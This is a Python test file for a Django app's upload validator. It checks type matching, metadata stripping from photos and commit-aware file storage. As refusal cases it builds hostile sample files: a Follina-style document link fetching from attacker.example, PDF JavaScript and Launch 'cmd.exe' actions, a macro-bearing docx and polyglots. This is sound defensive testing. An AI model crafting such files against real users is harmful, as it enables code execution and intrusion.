"""Uploads are judged by their whole content, and their files follow the database: written when
the row commits, never left behind by a rollback, and the replaced photo is deleted."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.storage import default_storage
from django.db import transaction
from django.utils import translation

from sutura.accounts.roles import Role
from sutura.cases.models import CaseDocument
from sutura.cases.services import records
from sutura.cases.tests.helpers import open_test_case
from sutura.core.uploads import ACCEPTED_DOCUMENTS, ACCEPTED_PHOTOS, check_upload
from sutura.people import services as people
from sutura.people.consent import record_consent
from sutura.people.models import Person
from tests import files
from tests.factories import PersonFactory


def refused(
    name: str, content: bytes, accepted: dict[str, str] = ACCEPTED_DOCUMENTS, language: str = "en"
) -> str:
    with translation.override(language), pytest.raises(ValidationError) as error:
        check_upload(files.upload(name, content), accepted)
    return " ".join(error.value.message_dict["file"])


@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [
        ("photo.png", files.png, "image/png"),
        ("photo.JPG", files.jpeg, "image/jpeg"),
        ("certificat.pdf", files.pdf, "application/pdf"),
        ("lettre.docx", files.docx, ACCEPTED_DOCUMENTS[".docx"]),
        ("budget.xlsx", files.xlsx, ACCEPTED_DOCUMENTS[".xlsx"]),
        ("rapport.odt", files.odt, ACCEPTED_DOCUMENTS[".odt"]),
    ],
)
def test_genuine_files_of_every_accepted_type_pass(name, content, content_type):
    assert check_upload(files.upload(name, content()), ACCEPTED_DOCUMENTS) == content_type


def test_a_png_header_on_anything_else_is_refused():
    assert "does not match" in refused("p.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 32)


def test_a_truncated_image_is_refused():
    """verify() alone accepts a JPEG cut short; load() decodes every pixel."""
    assert "does not match" in refused("p.jpg", files.jpeg()[:-40])


def test_an_image_under_another_types_name_is_refused():
    assert "does not match" in refused("p.jpg", files.png())
    assert "does not match" in refused("p.pdf", files.png())


def test_a_pdf_header_on_anything_else_is_refused():
    assert "does not match" in refused("a.pdf", b"%PDF-1.7 hello")


def test_a_pdf_with_javascript_or_an_attached_file_is_refused():
    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(files.pdf())))
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('hello');"),
        }
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    scripted = io.BytesIO()
    writer.write(scripted)
    assert "scripts" in refused("a.pdf", scripted.getvalue())

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(files.pdf())))
    writer.add_attachment("payload.exe", b"MZ\x90\x00")
    attached = io.BytesIO()
    writer.write(attached)
    assert "scripts" in refused("a.pdf", attached.getvalue())


def test_polyglots_are_refused():
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("payload.js", "alert(1)")
    assert "another file" in refused("p.png", files.png() + archive.getvalue())
    assert "another file" in refused("a.pdf", files.pdf() + archive.getvalue())
    # data in front of an office file: a picture that unzips into a document
    assert "does not match" in refused("d.docx", files.png() + files.docx())


def test_office_files_must_be_sound_containers_of_the_right_kind():
    assert "does not match" in refused("d.docx", files.xlsx())  # a spreadsheet named .docx
    assert "does not match" in refused("d.odt", files.docx())
    broken = bytearray(files.docx())
    broken[60] ^= 0xFF  # damage a compressed member: its checksum fails
    assert "does not match" in refused("d.docx", bytes(broken))
    with_macros = io.BytesIO()
    with zipfile.ZipFile(with_macros, "w") as z:
        z.writestr("[Content_Types].xml", files.DOCX_TYPES)
        z.writestr("word/vbaProject.bin", "Sub AutoOpen()")
    assert "macros" in refused("d.docx", with_macros.getvalue())


# --- active content: what runs, fetches or sends something when the file is opened ----------

RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OLE_LINK = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" Type="{RELS}/oleObject" '
    'Target="http://attacker.example/x.html!" TargetMode="External"/></Relationships>'
)
HYPERLINK = OLE_LINK.replace(f"{RELS}/oleObject", f"{RELS}/hyperlink").replace("x.html!", "page")
TEMPLATE_LINK = OLE_LINK.replace(f"{RELS}/oleObject", f"{RELS}/attachedTemplate").replace(
    'TargetMode="External"', "TargetMode = 'External'"
)


def docx_with(*members: tuple[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", files.DOCX_TYPES)
        z.writestr("word/document.xml", "<w:document/>")
        for name, text in members:
            z.writestr(name, text)
    return buffer.getvalue()


def test_office_files_with_external_links_or_embedded_objects_are_refused():
    """The Follina pattern: a relationship fetched from the network when the file opens."""
    rels = "word/_rels/document.xml.rels"
    assert "external links" in refused("d.docx", docx_with((rels, OLE_LINK)))
    assert "external links" in refused(
        "d.docx", docx_with(("word/_rels/settings.xml.rels", TEMPLATE_LINK))
    )
    embedded = docx_with(("word/embeddings/oleObject1.bin", "\xd0\xcf\x11\xe0"))
    assert "embedded objects" in refused("d.docx", embedded)
    # a hyperlink waits for a click: accepted, as is a spreadsheet made by openpyxl
    assert check_upload(files.upload("d.docx", docx_with((rels, HYPERLINK))), ACCEPTED_DOCUMENTS)
    xlsx = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(files.xlsx())) as source, zipfile.ZipFile(xlsx, "w") as z:
        for item in source.infolist():
            z.writestr(item, source.read(item))
        z.writestr("xl/worksheets/_rels/sheet1.xml.rels", OLE_LINK)
    assert "external links" in refused("b.xlsx", xlsx.getvalue())


def test_an_odt_with_scripts_is_refused():
    scripted = io.BytesIO()
    with zipfile.ZipFile(scripted, "w") as z:
        with zipfile.ZipFile(io.BytesIO(files.odt())) as source:
            for item in source.infolist():
                z.writestr(item, source.read(item))
        z.writestr("Scripts/python/payload.py", "import os")
    assert "macros" in refused("r.odt", scripted.getvalue())


def pdf_with(**root_entries) -> bytes:
    """A genuine PDF whose catalogue (or, for `page_aa`, first page) gets the given entries;
    objects compressed into object streams, so that only the tree walk sees them."""
    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import NameObject

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(files.pdf())))
    page_aa = root_entries.pop("page_aa", None)
    for key, value in root_entries.items():
        writer._root_object[NameObject(f"/{key}")] = writer._add_object(value)
    if page_aa is not None:
        writer.pages[0][NameObject("/AA")] = page_aa
    for page in writer.pages:
        page.compress_content_streams()
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def action(kind: str, **entries):
    from pypdf.generic import DictionaryObject, NameObject, PdfObject, TextStringObject

    values: dict[NameObject, PdfObject] = {NameObject("/S"): NameObject(f"/{kind}")}
    for key, value in entries.items():
        values[NameObject(f"/{key}")] = TextStringObject(value)
    return DictionaryObject(values)


def test_pdfs_with_automatic_or_outward_actions_are_refused():
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject

    message = "scripts"
    for kind, entries in [
        ("URI", {"URI": "http://tracker.example/opened"}),  # not a plain GoTo
        ("SubmitForm", {"F": "http://attacker.example/"}),
        ("GoToR", {"F": "other.pdf"}),
        ("ImportData", {"F": "data.fdf"}),
        ("Launch", {"F": "cmd.exe"}),
    ]:
        assert message in refused("a.pdf", pdf_with(OpenAction=action(kind, **entries))), kind
    on_open = DictionaryObject({NameObject("/O"): action("URI", URI="http://x.example/")})
    assert message in refused("a.pdf", pdf_with(page_aa=on_open))
    xfa = DictionaryObject(
        {NameObject("/XFA"): ArrayObject(), NameObject("/Fields"): ArrayObject()}
    )
    assert message in refused("a.pdf", pdf_with(AcroForm=xfa))


def test_a_pdf_that_opens_on_a_page_is_accepted():
    from pypdf.generic import ArrayObject, NameObject

    go_to = action("GoTo")
    go_to[NameObject("/D")] = ArrayObject([NameObject("/Fit")])
    assert check_upload(files.upload("a.pdf", pdf_with(OpenAction=go_to)), ACCEPTED_DOCUMENTS)


def photo_with_gps(fmt: str = "JPEG") -> bytes:
    """A phone's photo: taken sideways (EXIF orientation 6), with the GPS position."""
    from PIL import Image
    from PIL.ExifTags import GPS, IFD, Base

    image = Image.new("RGB", (8, 4), "blue")
    exif = Image.Exif()
    exif[Base.Orientation] = 6
    exif[Base.Make] = "PhoneMaker"
    exif.get_ifd(IFD.GPSInfo).update(
        {GPS.GPSLatitudeRef: "N", GPS.GPSLatitude: (14.0, 41.0, 33.0), GPS.GPSLongitudeRef: "W"}
    )
    out = io.BytesIO()
    if fmt == "PNG":
        from PIL.PngImagePlugin import PngInfo

        text = PngInfo()
        text.add_text("Comment", "Shelter Rue 10, Dakar")
        image.save(out, "PNG", exif=exif, pnginfo=text)
    else:
        image.save(out, "JPEG", exif=exif)
    return out.getvalue()


def assert_no_metadata(data: bytes) -> None:
    from PIL import Image

    with Image.open(io.BytesIO(data)) as image:
        image.load()
        assert dict(image.getexif()) == {}
        assert not {"exif", "xmp", "Comment", "comment"} & set(image.info)
        assert image.size == (4, 8), "the orientation is applied to the pixels"
    assert b"PhoneMaker" not in data and b"Shelter" not in data


@pytest.mark.parametrize("fmt", ["JPEG", "PNG"])
def test_images_are_stored_without_their_metadata(fmt):
    from sutura.core.uploads import clean_content

    original = photo_with_gps(fmt)
    assert b"PhoneMaker" in original  # the test file does carry it
    assert_no_metadata(clean_content(original, ".png" if fmt == "PNG" else ".jpg"))
    assert clean_content(files.pdf(), ".pdf") == files.pdf()  # other files: as they came


@pytest.mark.django_db
def test_a_photo_with_a_gps_position_is_stored_without_it(users_a, media):
    actor = users_a[Role.CASE_MANAGER]
    person = PersonFactory.create(organisation=actor.organisation)
    record_consent(actor=actor, person=person, purpose="photo", status="given", method="verbal")
    with files.committed():
        people.set_photo(
            actor=actor, person=person, upload=files.upload("p.jpg", photo_with_gps(), "image/jpeg")
        )
    name = Person.objects.get(pk=person.pk).photo.name
    assert_no_metadata(default_storage.open(name).read())


def test_photos_accept_images_only():
    assert "Accepted files" in refused("a.pdf", files.pdf(), ACCEPTED_PHOTOS)


def test_the_message_is_in_french_for_french_users():
    assert "ne correspond pas" in refused("p.png", b"\x89PNG\r\n\x1a\n", language="fr")
    linked = docx_with(("word/_rels/document.xml.rels", OLE_LINK))
    assert "liens externes" in refused("d.docx", linked, language="fr")


# --- storage follows the database ------------------------------------------------------------


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def stored(media) -> list[str]:
    return sorted(str(p.relative_to(media)) for p in media.rglob("*") if p.is_file())


@pytest.mark.django_db
def test_a_document_is_written_only_when_its_row_commits(users_a, media):
    case = open_test_case(users_a[Role.CASE_MANAGER])
    with files.committed():
        document = upload_document(users_a, case)
        assert stored(media) == []  # not before the commit
    assert stored(media) == [document.file.name]
    assert default_storage.open(document.file.name).read() == files.pdf()


@pytest.mark.django_db
def test_a_save_rolled_back_midway_leaves_no_file_and_no_row(users_a, media):
    case = open_test_case(users_a[Role.CASE_MANAGER])
    with files.committed(), pytest.raises(RuntimeError), transaction.atomic():
        upload_document(users_a, case)
        raise RuntimeError("the request fails after the upload")
    assert stored(media) == []
    assert not CaseDocument.objects.filter(case=case).exists()


@pytest.mark.django_db
def test_a_failed_write_after_the_commit_removes_the_row(users_a, media, monkeypatch):
    case = open_test_case(users_a[Role.CASE_MANAGER])

    def disk_full(*args, **kwargs):
        raise OSError("No space left on device")

    monkeypatch.setattr(default_storage, "save", disk_full)
    with pytest.raises(OSError), files.committed():
        upload_document(users_a, case)
    assert not CaseDocument.objects.filter(case=case).exists()


@pytest.mark.django_db
def test_a_replaced_photo_leaves_no_old_file(users_a, media):
    actor = users_a[Role.CASE_MANAGER]
    person = PersonFactory.create(organisation=actor.organisation)
    record_consent(actor=actor, person=person, purpose="photo", status="given", method="verbal")
    with files.committed():
        people.set_photo(actor=actor, person=person, upload=files.png_upload())
    first = Person.objects.get(pk=person.pk).photo.name
    with files.committed():
        people.set_photo(
            actor=actor, person=person, upload=files.upload("p.jpg", files.jpeg(), "image/jpeg")
        )
    second = Person.objects.get(pk=person.pk).photo.name
    assert second != first and stored(media) == [second]


@pytest.mark.django_db
def test_a_photo_replacement_rolled_back_keeps_the_old_photo(users_a, media):
    actor = users_a[Role.CASE_MANAGER]
    person = PersonFactory.create(organisation=actor.organisation)
    record_consent(actor=actor, person=person, purpose="photo", status="given", method="verbal")
    with files.committed():
        people.set_photo(actor=actor, person=person, upload=files.png_upload())
    first = Person.objects.get(pk=person.pk).photo.name
    with files.committed(), pytest.raises(RuntimeError), transaction.atomic():
        people.set_photo(actor=actor, person=person, upload=files.png_upload())
        raise RuntimeError
    assert Person.objects.get(pk=person.pk).photo.name == first
    assert stored(media) == [first]


def upload_document(users, case):
    return records.upload_document(
        actor=users[Role.CASE_MANAGER],
        case=case,
        upload=files.pdf_upload(),
        description="Certificat",
        confidentiality="normal",
    )
